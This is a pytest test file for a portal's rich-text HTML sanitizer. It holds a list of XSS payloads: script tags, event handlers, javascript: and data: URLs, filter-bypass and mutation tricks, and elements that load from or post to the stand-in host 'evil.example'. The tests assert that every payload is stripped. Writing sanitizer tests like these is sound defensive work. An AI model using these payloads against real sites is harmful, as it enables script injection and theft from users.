import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path

import django_prose_editor
import pytest

from portal import rich_text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://good.example' onclick='alert(1)'>x</a>",
    "<a href='https://good.example' style='position:fixed;inset:0'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p>[[unsubscribe_url]]</p><b onmouseover=alert(1)>x</b>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
]


class Inspector(HTMLParser):
    """Notes every tag, attribute and link of a text."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.schemes = set(), set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name == "href":
                self.schemes.add(re.sub(r"[\s\x00-\x20]", "", value or "").split(":")[0].lower())


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    return inspector


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_leaves_nothing_that_acts(payload):
    cleaned = rich_text.clean(f"<p>Before</p>{payload}<p>After</p>")
    seen = inspect(cleaned)
    assert seen.tags <= rich_text.TAGS
    assert seen.attributes <= {"href", "start", "colspan", "rowspan", "scope"}
    assert seen.schemes <= rich_text.SCHEMES
    assert rich_text.clean(cleaned) == cleaned


def test_clean_keeps_what_editors_write():
    html = (
        '<h4>Dates</h4><p>See <a href="https://gov.example/x">the guidance</a>, <strong>soon</strong>.</p>'
        '<ul><li><p>One</p></li></ul><ol start="3"><li>Three</li></ol>'
        '<table><tbody><tr><th scope="col">Day</th></tr><tr><td>Monday</td></tr></tbody></table>'
    )
    assert rich_text.clean(html) == html


def test_clean_renames_bold_and_italic():
    assert rich_text.clean("<p><b>a</b> <i>b</i><br></p>") == "<p><strong>a</strong> <em>b</em><br></p>"


@pytest.mark.parametrize(
    "empty", ["", None, "<p></p>", "<p>&nbsp;</p>", "<p><br></p>", " \n", "<p> <strong></strong></p>"]
)
def test_clean_of_nothing_is_nothing(empty):
    assert rich_text.clean(empty) == ""


def test_plain_reads_blocks_lists_and_tables():
    html = (
        "<h3>Heading</h3><p>First  line<br>second &amp; third</p><ul><li><p>one</p></li><li>two</li></ul>"
        '<ol start="1"><li>a</li><li>b</li></ol><table><tr><th>Day</th><th>Who</th></tr><tr><td>Mon</td><td>Jo</td></tr></table>'
    )
    assert rich_text.plain(html).split("\n") == [
        "Heading", "First line", "second & third", "- one", "- two", "1. a", "2. b", "Day | Who", "Mon | Jo",
    ]  # fmt: skip


def test_plain_can_name_addresses():
    html = '<p><a href="https://a.example/x">Read it</a> or <a href="mailto:b@a.example">b@a.example</a></p>'
    assert rich_text.plain(html, addresses=True) == "Read it (https://a.example/x) or b@a.example"
    assert rich_text.plain(html) == "Read it or b@a.example"


def test_editor_style_hash_is_that_of_the_installed_editor():
    script = Path(django_prose_editor.__file__).parent / "static/django_prose_editor/editor.js"
    style = re.search(r"=`(\.ProseMirror \{[^`]*)`", script.read_text()).group(1)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"'sha256-{digest}'" == rich_text.EDITOR_STYLE_HASH
